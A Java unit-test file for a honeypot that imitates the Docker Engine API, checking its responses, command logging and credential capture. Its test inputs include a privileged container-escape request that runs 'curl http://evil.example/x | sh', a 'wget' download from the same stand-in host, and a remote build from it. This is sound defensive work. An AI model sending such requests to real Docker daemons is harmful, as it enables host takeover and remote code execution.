// SPDX-License-Identifier: Apache-2.0
package io.honeymesh.trap.docker;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.honeymesh.api.Captured;
import io.honeymesh.api.Conversation;
import io.honeymesh.api.Evidence;
import io.honeymesh.traps.TrapHarness;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(30)
class DockerTrapTest {

    private static final String PLAIN_400 =
            "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request";

    private static String answer(TrapHarness trap, String request) throws IOException {
        return trap.talk(request).replaceAll("Date: [^\r]*", "Date: now");
    }

    @Test
    void theAnswersAreThoseOfTheRealEngine() throws IOException {
        record Case(String request, String answer) {}
        String fields = "Api-Version: 1.41\r\nContent-Type: application/json\r\nDocker-Experimental: false\r\n"
                + "Ostype: linux\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\nDate: now\r\n";
        try (TrapHarness trap = Nodes.open(0)) {
            for (Case c : List.of(
                    new Case("help\r\n", PLAIN_400),
                    new Case(
                            Nodes.get("/_ping"),
                            "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\n"
                                    + "Docker-Experimental: false\r\nOstype: linux\r\nPragma: no-cache\r\n"
                                    + "Server: Docker/20.10.24+dfsg1 (linux)\r\nDate: now\r\nContent-Length: 2\r\n"
                                    + "Content-Type: text/plain; charset=utf-8\r\n\r\nOK"),
                    new Case(
                            Nodes.get("/nope"),
                            "HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nDate: now\r\nContent-Length: 29"
                                    + "\r\n\r\n{\"message\":\"page not found\"}\n"),
                    new Case(
                            Nodes.get("/containers/abc/json"),
                            "HTTP/1.1 404 Not Found\r\n" + fields + "Content-Length: 37\r\n\r\n"
                                    + "{\"message\":\"No such container: abc\"}\n"),
                    new Case(
                            Nodes.post("/containers/create", "{x"),
                            "HTTP/1.1 500 Internal Server Error\r\n" + fields + "Content-Length: 79\r\n\r\n"
                                    + "{\"message\":\"invalid character 'x' looking for beginning of object key string\"}\n"),
                    new Case(
                            "GET /_ping HTTP/1.1\r\n\r\n",
                            PLAIN_400.replace("400 Bad Request", "400 Bad Request: missing required Host header")),
                    new Case(
                            Nodes.get("/containers//json"),
                            "HTTP/1.1 301 Moved Permanently\r\nLocation: /containers/json\r\nDate: now\r\n"
                                    + "Content-Length: 0\r\n\r\n"))) {
                assertEquals(c.answer(), answer(trap, c.request()), c.request());
            }
        }
    }

    @Test
    void whatSomebodyWantsToRunIsACommand() throws IOException {
        String body = """
                {"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl http://evil.example/x | sh"],"Tty":true,\
                "Env":["A=b c"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true,"NetworkMode":"host","PidMode":"host",\
                "CapAdd":["SYS_ADMIN"],"RestartPolicy":{"Name":"always"}}}""";
        try (TrapHarness trap = Nodes.open(0)) {
            String answer = trap.talk(Nodes.post("/v1.24/containers/create?name=xm", body));
            assertTrue(answer.contains("{\"message\":\"No such image: alpine:latest\"}"), answer);
            Conversation seen = trap.conversation();
            assertEquals(
                    List.of("docker run --name xm --privileged -t --network host --pid host --restart always "
                            + "--cap-add SYS_ADMIN -v /:/mnt -e 'A=b c' alpine chroot /mnt sh -c "
                            + "'curl http://evil.example/x | sh'"),
                    Nodes.commands(seen));
            assertTrue(seen.evidence().contains(new Evidence.Detail("docker.body", Captured.of(body))));
        }
    }

    @Test
    void aPulledImageCanBeRunAndLookedAt() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            String answer = trap.talk(Nodes.post("/images/create?fromImage=alpine&tag=3.19", "")
                    + Nodes.post("/containers/create", "{\"Image\":\"alpine:3.19\",\"Cmd\":[\"id\"]}")
                    + Nodes.get("/containers/json?all=1")
                    + Nodes.get("/images/json"));
            assertTrue(answer.contains("{\"status\":\"Pulling from library/alpine\",\"id\":\"3.19\"}\r\n"), answer);
            assertTrue(answer.contains("Status: Downloaded newer image for alpine:3.19"), answer);
            assertTrue(answer.contains("HTTP/1.1 201 Created\r\n"), answer);
            assertTrue(answer.contains("\"State\":\"created\",\"Status\":\"Created\""), answer);
            assertTrue(answer.contains("\"RepoTags\":[\"alpine:3.19\"]"), answer);
            assertEquals(
                    List.of("docker pull alpine:3.19", "docker run alpine:3.19 id"),
                    Nodes.commands(trap.conversation()));
        }
    }

    @Test
    void anIdentifierWorksOnTheNextConnectionAndAnInventedOneDoesNot() throws IOException {
        try (TrapHarness trap = Nodes.open(4)) {
            String image = Nodes.engine(4).images().getFirst().name();
            String created = trap.talk(Nodes.post(
                    "/containers/create", "{\"Image\":\"" + image + "\",\"Cmd\":[\"sh\",\"-c\",\"whoami\"]}"));
            String id = created.replaceAll("(?s).*\"Id\":\"([0-9a-f]{64})\".*", "$1");
            assertEquals(64, id.length(), created);
            String attached = trap.talk(Nodes.post("/containers/" + id + "/attach?stream=1&stdout=1", ""));
            assertEquals(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream\r\n\r\n\1\0\0\0\0\0\0\5root\n",
                    attached);
            String invented = id.substring(0, 63) + (id.endsWith("0") ? "1" : "0");
            assertTrue(trap.talk(Nodes.get("/containers/" + invented + "/json")).startsWith("HTTP/1.1 404"));
        }
        try (TrapHarness other = Nodes.open(5)) {
            String id = new Ids(TrapHarness.persona(4)).fresh("container", false, 0);
            assertTrue(other.talk(Nodes.get("/containers/" + id + "/json")).startsWith("HTTP/1.1 404"));
        }
    }

    @Test
    void aTerminalShowsAPromptAndKeepsWhatIsTyped() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            String container = Nodes.engine(0).containers().getFirst().name();
            String made = trap.talk(Nodes.post(
                    "/containers/" + container + "/exec", "{\"Tty\":true,\"AttachStdin\":true,\"Cmd\":[\"sh\"]}"));
            assertEquals(List.of("docker exec -t " + container + " sh"), Nodes.commands(trap.conversation()));
            String id = made.replaceAll("(?s).*\"Id\":\"([0-9a-f]{64})\".*", "$1");
            String answer = trap.talk(
                    "POST /exec/" + id + "/start HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n"
                            + "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}wget http://evil.example/m\n");
            assertTrue(
                    answer.startsWith("HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n"
                            + "Connection: Upgrade\r\nUpgrade: tcp\r\nApi-Version: 1.41\r\n"),
                    answer);
            assertTrue(answer.endsWith("\r\n\r\n/ # \r\n"), answer);
            assertEquals(List.of("wget http://evil.example/m"), Nodes.commands(trap.conversation()));
        }
    }

    @Test
    void lookingAroundIsNoCommand() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            for (String target :
                    List.of("/_ping", "/version", "/info", "/containers/json", "/images/json", "/networks")) {
                assertTrue(trap.talk(Nodes.get(target)).startsWith("HTTP/1.1 200 OK\r\n"), target);
                Conversation seen = trap.conversation();
                assertEquals(List.of(), Nodes.commands(seen), target);
                assertEquals(
                        new Evidence.Request(Captured.of("GET " + target + " HTTP/1.1")),
                        seen.evidence().getFirst());
            }
        }
    }

    @Test
    void registryLoginsAreCredentials() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            trap.talk(Nodes.post("/auth", "{\"username\":\"u\",\"password\":\"p\",\"serveraddress\":\"r\"}"));
            assertTrue(trap.conversation()
                    .evidence()
                    .contains(new Evidence.Credential("registry", Captured.of("u"), Captured.of("p"))));
            trap.talk("POST /images/create?fromImage=a HTTP/1.1\r\nHost: x\r\n"
                    + "X-Registry-Auth: eyJ1c2VybmFtZSI6InUiLCJwYXNzd29yZCI6InAifQ==\r\n\r\n");
            assertTrue(trap.conversation()
                    .evidence()
                    .contains(new Evidence.Credential("registry", Captured.of("u"), Captured.of("p"))));
        }
    }

    @Test
    void theContextOfABuildIsAnUpload() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            String answer =
                    trap.talk("POST /build?t=x&remote=http%3A%2F%2Fevil.example%2FDockerfile HTTP/1.1\r\nHost: x\r\n"
                            + "Content-Length: 4\r\n\r\nabcd");
            assertTrue(answer.contains("Cannot locate specified Dockerfile: Dockerfile"), answer);
            Conversation seen = trap.conversation();
            assertEquals(List.of("docker build -t x http://evil.example/Dockerfile"), Nodes.commands(seen));
            assertTrue(seen.evidence().stream()
                    .anyMatch(e -> e instanceof Evidence.Upload upload
                            && upload.head().latin1().equals("abcd")));
        }
    }

    @Test
    void S01_aLuredBrowserIsRecognised() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            trap.talk("POST /containers/create HTTP/1.1\r\nHost: x\r\nOrigin: http://evil.example\r\n\r\n");
            assertTrue(trap.conversation().lured());
        }
    }

    @Test
    void aHeadMayBeAsLongAsTheBoundAndNotLonger() throws IOException {
        try (TrapHarness trap = Nodes.open(0)) {
            int rest = "GET /_ping HTTP/1.1".length() + "Host: x\r\n".length() + "X: \r\n".length();
            String filler = "a".repeat(RequestReader.MAX_HEAD_BYTES - rest - "\r\n".length() - 1);
            assertTrue(trap.talk("GET /_ping HTTP/1.1\r\nHost: x\r\nX: " + filler + "\r\n\r\n")
                    .startsWith("HTTP/1.1 200 OK"));
            assertTrue(trap.talk("GET /_ping HTTP/1.1\r\nHost: x\r\nX: a" + filler + "\r\n\r\n")
                    .startsWith("HTTP/1.1 431 Request Header Fields Too Large\r\n"));
        }
    }

    @Test
    void nodesLookDifferentAndEachAlwaysTheSame() {
        Set<String> seen = new HashSet<>();
        for (int node = 0; node < 40; node++) {
            Engine engine = Nodes.engine(node);
            seen.add(engine.id() + engine.containers().getFirst().id());
            assertEquals(engine.id(), Nodes.engine(node).id());
            assertTrue(engine.id().matches("([A-Z2-7]{4}:){11}[A-Z2-7]{4}"), engine.id());
        }
        assertEquals(40, seen.size());
    }

    @Test
    void onlyItsOwnPathsTellThisServer() {
        DockerTrap trap = new DockerTrap();
        assertTrue(trap.canHandle("GET /v1.24/containers/json HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII)));
        assertTrue(trap.canHandle("HEAD /_ping HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII)));
        assertFalse(trap.canHandle("GET / HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII)));
        assertFalse(trap.canHandle(new byte[] {0x16, 3, 1}));
    }
}
